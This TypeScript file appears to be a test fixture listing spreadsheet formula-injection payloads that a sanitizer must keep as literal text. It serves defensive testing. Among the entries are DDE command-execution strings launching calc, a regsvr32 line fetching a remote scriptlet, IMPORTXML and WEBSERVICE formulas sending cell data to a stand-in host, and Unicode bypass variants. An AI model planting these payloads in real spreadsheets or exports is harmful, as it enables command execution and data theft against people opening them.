/**
 * Texts that spreadsheet programs (or whoever later edits, exports or
 * re-imports the cell) could take as formulas or DDE commands. Every one must
 * come back as the same literal text and never be stored as a formula.
 */
export const INJECTION_PAYLOADS: readonly string[] = [
  '=HYPERLINK("http://x","y")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-2+3",
  "=1+1",
  "=cmd|'/C calc'!A0",
  "+1",
  "-1",
  "@",
  "=",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\u3000=1+1",
  "\uFF1D1+1",
  "\uFF0B1+1",
  '=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://x.example/"&A1)',
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x.example/SCT/t.sct scrobj.dll'!''",
  "-@SUM(1)",
  "+@x",
  '="\u4E2D"&"\u6587"',
  "=1+1\n=2+2",
  "'=1+1",
];
